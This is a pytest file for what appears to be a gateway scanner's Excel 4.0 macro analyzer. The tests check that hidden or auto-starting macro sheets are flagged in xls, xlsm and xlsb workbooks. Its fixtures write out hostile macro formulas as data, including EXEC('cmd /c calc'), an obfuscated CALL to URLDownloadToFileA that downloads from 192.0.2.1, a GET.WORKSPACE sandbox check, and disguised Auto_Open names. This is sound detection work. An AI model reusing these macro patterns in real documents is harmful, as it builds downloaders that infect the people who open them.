"""Excel 4.0 macro sheets are seen in workbooks of every make, and judged by what they call."""

import contextlib
import io
import zipfile
from dataclasses import replace
from functools import partial

import pytest

from gateway.model import Finding, Level
from gateway.scan.analyzers.xlm import XlmAnalyzer
from gateway.scan.api import Context
from gateway.scan.kinds import Kind
from tests.support import excel4, office
from tests.support.files import docx, zipped

EXEC, CALL, ALERT = 0x006E, 0x0096, 0x0076


def look(data: bytes, name: str = "a.xls") -> list[Finding]:
    found = XlmAnalyzer().analyze(office.artifact(data, name), Context())
    return [seen for seen in found if isinstance(seen, Finding)]


def unzipped(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def evidence(data: bytes, name: str = "a.xls") -> list[str]:
    return [seen.evidence for seen in look(data, name)]


@pytest.mark.parametrize("stream", ["Workbook", "Book", "WORKBOOK"])
def test_a_hidden_macro_sheet_is_seen_with_its_name(stream: str) -> None:
    data = office.workbook("Macro1", kind=1, visibility=2, stream=stream)

    assert evidence(data) == ["macro sheet Macro1, very hidden"]
    assert look(data)[0].level is Level.SUSPICIOUS


def test_a_wide_name_is_read() -> None:
    data = office.workbook("\u041c\u0430", kind=1)

    assert evidence(data) == ["macro sheet \u041c\u0430, visible"]


def test_an_ordinary_sheet_is_nothing() -> None:
    assert look(office.workbook("Feuil1")) == []


def test_a_macro_sheet_that_is_listed_as_another_is_seen() -> None:
    assert evidence(office.workbook("Feuil1", begins_as=0x40)) == ["macro sheet Feuil1, visible"]


@pytest.mark.parametrize("name", ["\x01", "\x02"])
def test_a_macro_that_starts_by_itself_and_a_program_is_malicious(name: str) -> None:
    call = office.macro_call(EXEC, "cmd /c calc")
    (finding,) = look(office.workbook("Macro1", kind=1, name=name, formulas=(call,)))

    assert (finding.code, finding.level) == ("macro.xlm-acts", Level.MALICIOUS)
    assert finding.summary == "An Excel 4.0 macro starts by itself and starts programs"
    assert finding.evidence.endswith('EXEC("cmd /c calc")')


def test_one_that_hides_and_calls_windows_is_malicious() -> None:
    call = office.macro_call(CALL, "urlmon", "URLDownloadToFileA")
    (finding,) = look(office.workbook("Macro1", kind=1, visibility=2, formulas=(call,)))

    assert (finding.code, finding.level) == ("macro.xlm-acts", Level.MALICIOUS)


def test_one_that_is_started_by_hand_is_suspicious_with_its_call() -> None:
    call = office.macro_call(EXEC, "notepad")
    (finding,) = look(office.workbook("Macro1", kind=1, formulas=(call,)))

    assert (finding.code, finding.level) == ("macro.xlm", Level.SUSPICIOUS)
    assert finding.evidence.startswith('macro sheet Macro1, visible; Macro1!A1: EXEC("notepad")')


def test_one_that_greets_is_suspicious_only() -> None:
    call = office.macro_call(ALERT, "Bonjour")
    (finding,) = look(office.workbook("Macro1", kind=1, name="\x01", formulas=(call,)))

    assert (finding.code, finding.level) == ("macro.xlm", Level.SUSPICIOUS)


def test_strings_that_are_put_together_are_spoken() -> None:
    joined = b"\x17\x02\0cm\x17\x01\0d\x08" + b"\x1e\x20\x00\x41\x6f\x00\x08" + b"\x42\x01\x6e\x00"
    (finding,) = look(office.workbook("Macro1", kind=1, name="\x01", formulas=(joined,)))

    assert finding.evidence.endswith('EXEC("cmd ")')


@pytest.mark.parametrize("name", ["xl/macrosheets/sheet1.xml", "xl/intlMacroSheets/sheet2.bin"])
def test_a_macro_part_of_a_package_is_seen(name: str) -> None:
    assert evidence(b"<?xml version='1.0'?><x></x>", name) == [f"macro sheet {name}, hidden"]


def test_a_macro_part_is_known_by_its_root_too() -> None:
    sheet = b"<?xml version='1.0'?><xm:macrosheet xmlns:xm='a'></xm:macrosheet>"

    assert evidence(sheet, "xl/worksheets/sheet1.xml") == ["macro sheet <xm:macrosheet, hidden"]


def test_a_macro_part_that_starts_programs_is_malicious() -> None:
    sheet = b"<x:macrosheet xmlns:x='a'><c r='A1'><f>EXEC(\"calc\")</f></c></x:macrosheet>"
    (finding,) = look(sheet, "xl/macrosheets/sheet1.xml")

    assert (finding.code, finding.level) == ("macro.xlm-acts", Level.MALICIOUS)


def test_a_binary_macro_part_that_starts_programs_is_malicious() -> None:
    sheet = office.binary_sheet(office.macro_call(EXEC, "calc", wide=True))
    (finding,) = look(sheet, "xl/macrosheets/sheet1.bin")

    assert (finding.code, finding.level) == ("macro.xlm-acts", Level.MALICIOUS)
    assert finding.evidence.endswith('sheet1.bin!A1: EXEC("calc")')


def test_a_name_in_a_workbook_that_starts_macros_is_suspicious() -> None:
    book = b"<?xml version='1.0'?><workbook><definedName name='_xlnm.Auto_Open'/></workbook>"

    assert evidence(book, "xl/workbook.xml") == ["starts by _xlnm.Auto_Open"]


def test_an_everyday_workbook_part_is_nothing() -> None:
    book = b"<?xml version='1.0'?><workbook><definedName name='_xlnm.Print_Area'/></workbook>"

    assert look(book, "xl/workbook.xml") == []


BUILDS = {
    "xls": excel4.workbook97,
    "xlsm": excel4.package,
    "xlsb": partial(excel4.package, is_binary=True),
}
HIDDEN = {
    "Macro1": {
        "A1": '=FORMULA.FILL(data!A1&"rlmon",B1)',
        "A2": '=CALL(B1,"URLDownloadToFileA","JJCCJJ",0,data!A2&CHAR(112)&"://192.0.2.1/a","c")',
        "A3": '=EXEC("cmd"&C1)',
        "A4": "=HALT()",
        "C1": " /c calc",
    },
    "data": {"A1": "u", "A2": "htt"},
}


@pytest.mark.parametrize("make", BUILDS)
def test_commands_that_are_put_together_are_told_in_every_make(make: str) -> None:
    (finding,) = look(BUILDS[make](HIDDEN))

    assert (finding.code, finding.level) == ("macro.xlm-acts", Level.MALICIOUS)
    assert finding.summary.startswith("An Excel 4.0 macro starts by itself and ")
    assert '; Macro1!A2: CALL("urlmon","URLDownloadToFileA",' in finding.evidence
    assert '0,"hxxp://192[.]0[.]2[.]1/a","c")' in finding.evidence
    assert '; Macro1!A3: EXEC("cmd /c calc")' in finding.evidence


@pytest.mark.parametrize("make", BUILDS)
@pytest.mark.parametrize("state", ["visible", "hidden", "very hidden"])
def test_a_sheet_says_whether_it_is_hidden_in_every_make(make: str, state: str) -> None:
    (finding,) = look(BUILDS[make]({"Macro1": {"A1": '=ALERT("Bonjour")'}}, state=state))

    assert finding.code == "macro.xlm"
    assert finding.evidence.startswith(f"macro sheet Macro1, {state}; starts by ")


@pytest.mark.parametrize(
    "name",
    ["_xlnm.Auto_Open", "auto_open", "AUTO_OPEN22", "_xlnm.Auto_Open1", "Auto_Close",
     "auto_activate", "Auto\u00ad_Open", "\uff21uto_open", "Áuto_Open"],
)  # fmt: skip
def test_every_spelling_of_a_name_starts_macros(name: str) -> None:
    (finding,) = look(
        excel4.package({"Macro1": {"A1": '=EXEC("calc")'}}, name=name, state="visible")
    )

    assert finding.summary == "An Excel 4.0 macro starts by itself and starts programs"


@pytest.mark.parametrize("name", ["\x01", "\x01\xe9\xe8", "Auto_Open2", "auto_OPEN"])
def test_a_built_in_name_counts_by_its_first_letter(name: str) -> None:
    (finding,) = look(
        excel4.workbook97({"Macro1": {"A1": '=EXEC("calc")'}}, name=name, state="visible")
    )

    assert finding.code == "macro.xlm-acts"


@pytest.mark.parametrize(
    "name", ["Ouverture", "Autorisation", "auto", "Print_Area", "_xlnm.Print_Area"]
)
def test_other_names_start_nothing(name: str) -> None:
    (finding,) = look(
        excel4.package({"Macro1": {"A1": '=EXEC("calc")'}}, name=name, state="visible")
    )

    assert finding.code == "macro.xlm"


def test_a_question_to_the_machine_is_said() -> None:
    cells = {"A1": '=IF(GET.WORKSPACE(13)<770,CLOSE(FALSE),EXEC("calc"))'}
    acts, unclear = look(excel4.package({"Macro1": cells}))

    assert acts.code == "macro.xlm-acts"
    assert (unclear.code, unclear.level) == ("macro.xlm-unclear", Level.NOTE)
    assert unclear.evidence == "it asks the machine: GET.WORKSPACE(13)"


def test_a_macro_that_goes_on_for_ever_is_held_and_said() -> None:
    _, unclear = look(excel4.package({"Macro1": {"A1": "=GOTO(A2)", "A2": "=GOTO(A1)"}}))

    assert (unclear.code, unclear.level) == ("macro.xlm-unclear", Level.SUSPICIOUS)


def test_a_macro_sheet_under_another_name_in_its_package_is_found() -> None:
    data = excel4.package({"Macro1": {"A1": '=EXEC("calc")'}})
    moved = {
        name.replace("macrosheets/", "worksheets/m"): part.replace(b"macrosheets/", b"worksheets/m")
        for name, part in unzipped(data).items()
    }
    moved["[Content_Types].xml"] = b"<Types><Override ContentType='a.macrosheet+xml'/></Types>"

    assert [seen.code for seen in look(zipped(moved))] == ["macro.xlm-acts"]


def test_an_everyday_package_is_nothing() -> None:
    assert look(docx()) == []


def test_a_part_is_judged_with_its_package_and_not_again() -> None:
    part = excel4.package({"Macro1": {"A1": '=EXEC("calc")'}})
    sheet = unzipped(part)["xl/macrosheets/sheet1.xml"]
    inside = replace(office.artifact(sheet, "xl/macrosheets/sheet1.xml"), within=(Kind.OOXML,))

    assert list(XlmAnalyzer().analyze(inside, Context())) == []


def test_a_file_that_is_cut_anywhere_is_at_most_damaged() -> None:
    call = office.macro_call(EXEC, "cmd /c calc")
    whole = office.workbook("Macro1", kind=1, name="\x01", formulas=(call,))

    for end in range(1536, len(whole), 7):
        with contextlib.suppress(*XlmAnalyzer.broken):
            look(whole[:end])
